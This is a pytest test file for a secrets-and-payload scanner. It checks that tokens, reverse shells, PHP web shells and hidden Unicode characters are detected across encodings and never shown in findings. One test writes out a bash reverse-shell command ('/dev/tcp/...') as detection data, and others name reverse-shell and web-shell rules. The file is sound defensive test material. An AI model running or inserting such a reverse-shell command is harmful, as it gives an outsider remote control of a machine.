"""What the rules find, and what they leave alone."""

from __future__ import annotations

from pathlib import Path

import pytest

from toolgate.core.finding import Finding
from toolgate.core.paths import MountPath
from toolgate.secrets.scan import ContentScanner

from . import corpus

REPOSITORY = Path(__file__).parents[2]
PATH = MountPath.parse("notes/a.txt")


def found(content: str | bytes) -> list[Finding]:
    raw = content.encode() if isinstance(content, str) else content
    return ContentScanner().read(PATH, raw)


def cases(table: dict[str, list[str]]) -> list[tuple[str, str]]:
    return [(rule, text) for rule, texts in table.items() for text in texts]


@pytest.mark.parametrize(("rule", "text"), cases(corpus.SECRETS), ids=lambda value: str(value)[:20])
def test_a_secret_is_found_and_never_shown(rule: str, text: str) -> None:
    for content in (text, f"first line\nx = 1\n{text}\nlast line\n"):
        (finding,) = found(content)
        assert (finding.kind, finding.rule) == ("secret", rule)
        shown = repr(finding)
        pieces = [text[at : at + 12] for at in range(len(text) - 12)]
        hidden = [piece for piece in pieces if piece.isalnum() and not piece.isalpha()]
        assert not any(piece in shown for piece in hidden)


@pytest.mark.parametrize(("rule", "text"), cases(corpus.PAYLOADS), ids=lambda value: str(value)[:20])
def test_a_payload_is_found(rule: str, text: str) -> None:
    assert {(one.kind, one.rule) for one in found(f"\n{text}\n")} == {("payload", rule)}


@pytest.mark.parametrize("rule", corpus.PROGRAMS)
def test_a_program_is_known_by_its_first_bytes(rule: str) -> None:
    content = corpus.PROGRAMS[rule]
    assert [one.rule for one in found(content)] == [rule]
    assert found(b" " + content) == []


@pytest.mark.parametrize(("rule", "text"), cases(corpus.HIDDEN), ids=lambda value: str(value)[:20])
def test_hidden_characters_are_found_and_made_visible(rule: str, text: str) -> None:
    (first, *_) = found(f"\n  {text}\n")
    assert (first.kind, first.rule, first.line) == ("hidden", rule, 2)
    assert "⟨U+" in first.excerpt


@pytest.mark.parametrize("text", corpus.HARMLESS)
def test_what_only_looks_so_is_left_alone(text: str) -> None:
    assert found(text) == []


def test_a_finding_says_where_it_is_in_lines_and_characters() -> None:
    (finding,) = found(f"one\n  dü = {corpus.AWS}\n")
    assert (finding.line, finding.column, finding.where) == (2, 8, "notes/a.txt:2:8")
    assert finding.excerpt == "AKIA…(20 characters)"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "utf-8-sig", "latin-1"])
def test_an_encoding_hides_nothing(encoding: str) -> None:
    assert [one.rule for one in found(f"grün {corpus.GITHUB}".encode(encoding))] == ["github-token"]


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"])
def test_text_of_wide_letters_is_read_without_a_byte_order_mark_too(encoding: str) -> None:
    assert [one.rule for one in found(f"a = '{corpus.GITHUB}'\n".encode(encoding))] == ["github-token"]
    assert [one.rule for one in found(corpus.PAYLOADS["reverse-shell"][0].encode(encoding))] == [
        "reverse-shell"
    ]


def test_neither_zeros_nor_a_false_byte_order_mark_hide_a_text() -> None:
    text = f"line\n{corpus.GITHUB}\n".encode()
    for hidden in (text + bytes(500), bytes(500) + text, text.replace(b"\n", b"\n\0"), b"\xff\xfe" + text):
        assert [one.rule for one in found(hidden)] == ["github-token"]
    assert [one.rule for one in found(b"\xff\xfe\n" + corpus.PAYLOADS["reverse-shell"][0].encode())] == [
        "reverse-shell"
    ]


@pytest.mark.parametrize(
    "before",
    [
        b"\xff\xfe\0",
        b"\xfe\xff\0",
        b"\xff\xfe\0\0",
        ("wide " * 500).encode("utf-16-le"),
        ("wide " * 500).encode("utf-16"),
    ],
)
def test_a_text_that_only_begins_like_wide_letters_is_read_as_it_is_too(before: bytes) -> None:
    """An interpreter takes no notice of what stands before the part that is for it."""
    content = before + b"\n" + corpus.PAYLOADS["reverse-shell"][0].encode() + f"\n{corpus.GITHUB}\n".encode()
    assert {"reverse-shell", "github-token"} <= {one.rule for one in found(content)}


def test_a_table_of_numbers_is_no_wide_text() -> None:
    """As a compiled catalogue of translations begins with one: some of its offsets are those of hidden characters."""
    numbers = (3, 21, 9, 0x202B) * 200
    table = b"".join(number.to_bytes(4, "little") for number in numbers)
    assert found(table) == []


def test_zeros_hide_no_text_and_an_image_no_web_shell_and_no_token() -> None:
    assert [one.rule for one in found(f"a\0b {corpus.GITHUB}")] == ["github-token"]
    image = b"\x89PNG\r\n" + bytes(range(32)) * 50
    assert [one.rule for one in found(image + corpus.GITHUB.encode())] == ["github-token"]
    assert found(image + corpus.SECRETS["assigned-secret"][0].encode()) == [], "words mean nothing there"
    assert [one.rule for one in found(image + corpus.PAYLOADS["php-web-shell"][0].encode())] == [
        "php-web-shell"
    ]


def test_a_payload_that_holds_a_secret_does_not_show_it() -> None:
    text = f"bash -i >& /dev/tcp/{corpus.GITHUB}/4242 0>&1"
    assert {one.kind for one in found(text)} == {"payload", "secret"}
    assert corpus.GITHUB not in repr(found(text))


def test_a_name_is_scanned_and_its_secret_not_repeated() -> None:
    path = MountPath.parse(f"notes/{corpus.GITHUB}.txt")
    (finding,) = ContentScanner().read(path, b"nothing")
    assert (finding.rule, finding.line) == ("github-token", 0)
    assert corpus.GITHUB not in repr(finding)


def test_our_own_source_and_documents_give_no_findings() -> None:
    findings = []
    for folder in ("src", "docs", "tests", "examples", "bench"):
        for file in (REPOSITORY / folder).rglob("*"):
            if file.suffix in (".py", ".md", ".sql", ".yaml", ".txt", ".toml") and file.is_file():
                path = MountPath.parse(str(file.relative_to(REPOSITORY)))
                findings += ContentScanner().read(path, file.read_bytes())
    samples = {
        "project:tests/vault/corpus.py",
        "project:tests/attacks/hostile.py",
        "project:tests/scan/test_rules.py",
    }
    assert {str(finding.path) for finding in findings} <= samples, findings
    assert len(findings) <= 3, findings
